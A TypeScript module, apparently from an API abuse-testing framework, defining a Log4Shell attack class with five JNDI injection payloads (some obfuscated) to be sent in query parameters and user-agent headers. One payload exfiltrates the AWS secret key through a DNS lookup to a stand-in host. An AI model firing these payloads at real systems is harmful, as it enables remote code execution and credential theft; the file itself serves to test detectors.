import type { AbuseClass } from '../abuse-contract.js';
import { payloadAttack } from '../building/payload-attack.js';

const PAYLOADS = [
  `\${jndi:ldap://203.0.113.9:1389/a}`,
  `\${\${lower:j}ndi:\${lower:l}dap://203.0.113.9/a}`,
  `\${jndi:dns://x.evil.example}`,
  `\${\${::-j}\${::-n}\${::-d}\${::-i}:rmi://203.0.113.9/b}`,
  `\${jndi:ldap://\${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}`,
] as const;

export const log4shell: AbuseClass = {
  id: 'log4shell',
  title: 'Log4Shell',
  detectors: ['injection-attempt', 'abnormal-parameter', 'parameter-fuzzing', 'error-oracle'],
  owasp: 'API8:2023',
  needs: 'an identified caller of an endpoint that reads',
  plan: (target, occasion) => payloadAttack(target, occasion, 'Log4Shell', PAYLOADS, ['query', 'user-agent']),
};
